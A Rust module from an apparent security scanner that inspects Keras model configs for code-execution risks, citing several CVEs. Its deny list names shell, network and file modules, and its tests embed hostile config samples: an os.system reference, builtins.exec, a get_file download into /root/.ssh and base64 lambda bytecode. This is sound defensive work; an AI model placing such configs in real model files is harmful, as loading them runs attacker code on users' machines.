//! Keras model configs: `config.json` inside a `.keras` zip (Keras 3), or the `model_config`
//! JSON of a legacy `.h5` file. Loading a model walks this tree and deserializes every
//! `{"module", "class_name", "config", "registered_name"}` object; several parts of it run
//! code (payload-evasions §30):
//!
//! - `Lambda` layers carry a Python function as marshalled bytecode in base64 (Keras 2:
//!   `config.function` = `[code, defaults, closure]` with `function_type: "lambda"`; Keras 3:
//!   `{"class_name": "__lambda__", "config": {"value" | "code": ...}}`) — CVE-2024-3660, and
//!   loaded from `.h5` even under `safe_mode` (CVE-2025-9905);
//! - `module` names are imported with `importlib` before `class_name` is looked up in them,
//!   so `{"module": "os", "class_name": "system"}`-style references import and hand out any
//!   function (CVE-2025-1550, Keras < 3.9);
//! - Keras' own namespace has gadgets: `keras.utils.get_file` downloads to a chosen path
//!   (CVE-2025-8747), `keras.config.enable_unsafe_deserialization` turns `safe_mode` off from
//!   inside the config (CVE-2025-9906).
//!
//! Dangerous: any of those. Suspicious: modules outside Keras' packages (custom code that
//! must be importable) and objects registered by other packages. Safe otherwise.

use crate::Inspection;
use serde_json::Value;
use trustscan_core::Judgement;

/// Packages whose objects Keras' own loaders provide.
const KERAS_PACKAGES: &[&str] = &[
    "keras",
    "keras_hub",
    "keras_nlp",
    "keras_cv",
    "tf_keras",
    "tensorflow.keras",
];

/// Root modules whose functions run commands, evaluate code, touch files or the network.
const DANGEROUS_MODULES: &[&str] = &[
    "builtins",
    "__builtin__",
    "os",
    "posix",
    "nt",
    "posixpath",
    "ntpath",
    "subprocess",
    "sys",
    "shutil",
    "socket",
    "importlib",
    "runpy",
    "pickle",
    "_pickle",
    "marshal",
    "types",
    "ctypes",
    "pty",
    "code",
    "codeop",
    "webbrowser",
    "commands",
    "platform",
    "io",
    "pathlib",
    "operator",
    "functools",
    "multiprocessing",
    "asyncio",
    "urllib",
    "http",
    "requests",
    "pip",
    "setuptools",
    "timeit",
    "pdb",
    "bdb",
    "cProfile",
    "profile",
    "trace",
    "dill",
    "joblib",
    "tempfile",
    "glob",
];

/// Functions inside Keras' namespace that are gadgets by themselves.
const KERAS_GADGETS: &[(&str, &str)] = &[
    (
        "get_file",
        "keras.utils.get_file downloads and writes files (CVE-2025-8747)",
    ),
    (
        "enable_unsafe_deserialization",
        "enable_unsafe_deserialization turns safe_mode off from inside the config (CVE-2025-9906)",
    ),
];

const MAX_DEPTH: usize = 256;

/// Inspect a Keras model config. `None` when the JSON is not one (no top-level
/// `class_name` string with a `config` object).
pub fn inspect_config(json: &[u8]) -> Option<Inspection> {
    let root: Value = serde_json::from_slice(json).ok()?;
    let obj = root.as_object()?;
    if !obj.get("class_name").is_some_and(Value::is_string)
        || !obj.get("config").is_some_and(Value::is_object)
    {
        return None;
    }
    let mut ins = Inspection::new("keras");
    let mut found: Vec<(Judgement, String)> = Vec::new();
    walk(&root, "$", 0, &mut found);
    ins.flag_all(found);
    Some(ins)
}

fn root_module(m: &str) -> &str {
    m.split('.').next().unwrap_or(m)
}

fn is_keras_module(m: &str) -> bool {
    KERAS_PACKAGES
        .iter()
        .any(|k| m == *k || m.strip_prefix(k).is_some_and(|r| r.starts_with('.')))
}

fn walk(v: &Value, path: &str, depth: usize, found: &mut Vec<(Judgement, String)>) {
    if depth > MAX_DEPTH {
        found.push((
            Judgement::Inconclusive,
            format!("{path}: config nested deeper than {MAX_DEPTH}"),
        ));
        return;
    }
    match v {
        Value::String(s) => {
            for (g, why) in KERAS_GADGETS {
                if s == g || s.ends_with(&format!(".{g}")) || (*g != "get_file" && s.contains(g)) {
                    found.push((Judgement::Dangerous, format!("{path}: {why}")));
                }
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                walk(x, &format!("{path}[{i}]"), depth + 1, found);
            }
        }
        Value::Object(o) => {
            object(o, path, found);
            for (k, x) in o {
                if k.contains("enable_unsafe_deserialization") {
                    found.push((
                        Judgement::Dangerous,
                        format!(
                            "{path}: key {k:?} names enable_unsafe_deserialization (CVE-2025-9906)"
                        ),
                    ));
                }
                walk(x, &format!("{path}.{k}"), depth + 1, found);
            }
        }
        _ => {}
    }
}

/// Judge one serialized object by its own fields.
fn object(o: &serde_json::Map<String, Value>, path: &str, found: &mut Vec<(Judgement, String)>) {
    let class = o.get("class_name").and_then(Value::as_str);
    let config = o.get("config");
    let name = config
        .and_then(|c| c.get("name"))
        .and_then(Value::as_str)
        .map(|n| format!(" {n:?}"))
        .unwrap_or_default();
    if class == Some("Lambda") {
        let f = config.and_then(|c| c.get("function"));
        let how = match f {
            Some(Value::Array(a)) if a.first().is_some_and(Value::is_string) => {
                "its function is marshalled Python bytecode in base64 (Keras 2 func_dump), run when the layer is called"
            }
            Some(Value::Object(f))
                if f.get("class_name").and_then(Value::as_str) == Some("__lambda__") =>
            {
                "its function is marshalled Python bytecode in base64 (Keras 3 __lambda__), run when the layer is called"
            }
            _ => "it wraps an arbitrary Python function",
        };
        found.push((
            Judgement::Dangerous,
            format!("{path}: Lambda layer{name}: {how} (CVE-2024-3660; .h5 loads it even in safe_mode, CVE-2025-9905)"),
        ));
    }
    if class == Some("__lambda__") {
        let has_code = config.is_some_and(|c| c.get("code").is_some() || c.get("value").is_some());
        found.push((
            Judgement::Dangerous,
            format!(
                "{path}: serialized Python lambda{} (marshalled bytecode, base64)",
                if has_code { " with code" } else { "" }
            ),
        ));
    }
    if config
        .and_then(|c| c.get("function_type"))
        .and_then(Value::as_str)
        == Some("lambda")
        && class != Some("Lambda")
    {
        found.push((
            Judgement::Dangerous,
            format!("{path}: function_type \"lambda\": a function stored as marshalled bytecode"),
        ));
    }
    if let Some(m) = o.get("module").and_then(Value::as_str)
        && !is_keras_module(m)
    {
        let what = class.map(|c| format!(".{c}")).unwrap_or_default();
        if DANGEROUS_MODULES.contains(&root_module(m)) {
            found.push((
                Judgement::Dangerous,
                format!("{path}: module {m:?}{what}: loading imports it and hands out its functions (CVE-2025-1550)"),
            ));
        } else {
            found.push((
                Judgement::Suspicious,
                format!("{path}: module {m:?}{what} is outside Keras: loading imports custom code"),
            ));
        }
    }
    if let Some(r) = o.get("registered_name").and_then(Value::as_str)
        && let Some((pkg, _)) = r.split_once('>')
        && !is_keras_module(pkg)
    {
        found.push((
            Judgement::Suspicious,
            format!("{path}: custom object {r:?} registered by package {pkg:?}"),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(j: &str) -> Inspection {
        inspect_config(j.as_bytes()).expect("a keras config")
    }

    const SEQUENTIAL: &str = r#"{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": true,
      "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": null},
      "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "dtype": "float32", "sparse": false, "name": "input_layer"}, "registered_name": null},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "trainable": true, "units": 8, "activation": "relu", "use_bias": true,
          "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": null}, "registered_name": null},
          "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": null},
          "kernel_regularizer": null}, "registered_name": null, "build_config": {"input_shape": [null, 4]}}
      ], "build_input_shape": [null, 4]},
      "registered_name": null, "build_config": {"input_shape": [null, 4]},
      "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"name": "adam", "learning_rate": 0.001}, "registered_name": null},
        "loss": "mean_squared_error", "metrics": ["mae"], "loss_weights": null, "run_eagerly": false}}"#;

    const HUB: &str = r#"{"module": "keras_hub.src.models.gemma.gemma_causal_lm", "class_name": "GemmaCausalLM", "config": {
      "backbone": {"module": "keras_hub.src.models.gemma.gemma_backbone", "class_name": "GemmaBackbone", "config": {"name": "gemma_backbone", "vocabulary_size": 256000, "num_layers": 2}, "registered_name": "keras_hub>GemmaBackbone"},
      "preprocessor": null, "name": "gemma_causal_lm"}, "registered_name": "keras_hub>GemmaCausalLM",
      "build_config": {"input_shape": {"token_ids": [null, null]}},
      "compile_config": {"loss": {"module": "keras.losses", "class_name": "SparseCategoricalCrossentropy", "config": {"from_logits": true}, "registered_name": null}}}"#;

    #[test]
    fn benign_configs_are_safe() {
        for j in [SEQUENTIAL, HUB] {
            let i = judge(j);
            assert_eq!(i.verdict, Judgement::Safe, "{:?}", i.reasons);
        }
        let legacy = r#"{"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"units": 1, "activation": "linear"}}]}, "keras_version": "2.13.1", "backend": "tensorflow"}"#;
        assert_eq!(judge(legacy).verdict, Judgement::Safe);
    }

    #[test]
    fn not_keras_is_none() {
        for j in [
            "{}",
            "[]",
            "not json",
            r#"{"class_name": 3, "config": {}}"#,
            r#"{"architectures": ["X"], "model_type": "bert"}"#,
        ] {
            assert!(inspect_config(j.as_bytes()).is_none(), "{j}");
        }
    }

    #[test]
    fn lambdas_are_dangerous() {
        let k2 = r#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAADzAAAAAA==", null, null], "function_type": "lambda", "module": "__main__"}}]}}"#;
        let i = judge(k2);
        assert_eq!(i.verdict, Judgement::Dangerous);
        assert!(
            i.reasons[0].contains("Lambda layer \"lambda\""),
            "{:?}",
            i.reasons
        );
        assert!(i.reasons[0].contains("bytecode"));
        let k3 = r#"{"module": "keras", "class_name": "Functional", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": null, "closure": null}}}, "registered_name": null}]}}"#;
        let i = judge(k3);
        assert_eq!(i.verdict, Judgement::Dangerous);
        assert!(i.reasons.iter().any(|r| r.contains("__lambda__")));
        assert!(
            i.reasons
                .iter()
                .any(|r| r.contains("serialized Python lambda with code"))
        );
    }

    #[test]
    fn foreign_modules_and_gadgets() {
        let mk = |inner: &str| {
            format!(
                r#"{{"module": "keras", "class_name": "Functional", "config": {{"layers": [{inner}]}}}}"#
            )
        };
        let cases = [
            (
                r#"{"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}}"#,
                Judgement::Dangerous,
                "module \"os\"",
            ),
            (
                r#"{"module": "builtins", "class_name": "exec", "config": {}}"#,
                Judgement::Dangerous,
                "CVE-2025-1550",
            ),
            (
                r#"{"module": "subprocess.run", "class_name": "x", "config": {}}"#,
                Judgement::Dangerous,
                "subprocess",
            ),
            (
                r#"{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://x/y", "cache_dir": "/root/.ssh"}}"#,
                Judgement::Dangerous,
                "CVE-2025-8747",
            ),
            (
                r#"{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}"#,
                Judgement::Dangerous,
                "CVE-2025-9906",
            ),
            (
                r#"{"module": "my_layers", "class_name": "Custom", "config": {}, "registered_name": "MyPackage>Custom"}"#,
                Judgement::Suspicious,
                "outside Keras",
            ),
            (
                r#"{"module": "keras.layers", "class_name": "Custom", "config": {}, "registered_name": "acme>Custom"}"#,
                Judgement::Suspicious,
                "acme",
            ),
        ];
        for (inner, v, why) in cases {
            let i = judge(&mk(inner));
            assert_eq!(i.verdict, v, "{inner}: {:?}", i.reasons);
            assert!(
                i.reasons.iter().any(|r| r.contains(why)),
                "{why}: {:?}",
                i.reasons
            );
        }
        // Nested model inside a model, reached through build/compile configs too.
        let nested = r#"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras", "class_name": "Functional", "config": {"layers": []}}]},
          "compile_config": {"loss": {"module": "posix", "class_name": "function", "config": "system"}}}"#;
        let i = judge(nested);
        assert_eq!(i.verdict, Judgement::Dangerous);
        assert!(
            i.reasons[0].starts_with("$.compile_config.loss"),
            "{:?}",
            i.reasons
        );
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        // serde_json's own recursion limit rejects this first: not a config.
        let j = format!(
            r#"{{"class_name": "A", "config": {}{}}}"#,
            "[".repeat(10_000),
            "]".repeat(10_000)
        );
        assert!(inspect_config(j.as_bytes()).is_none());
    }
}
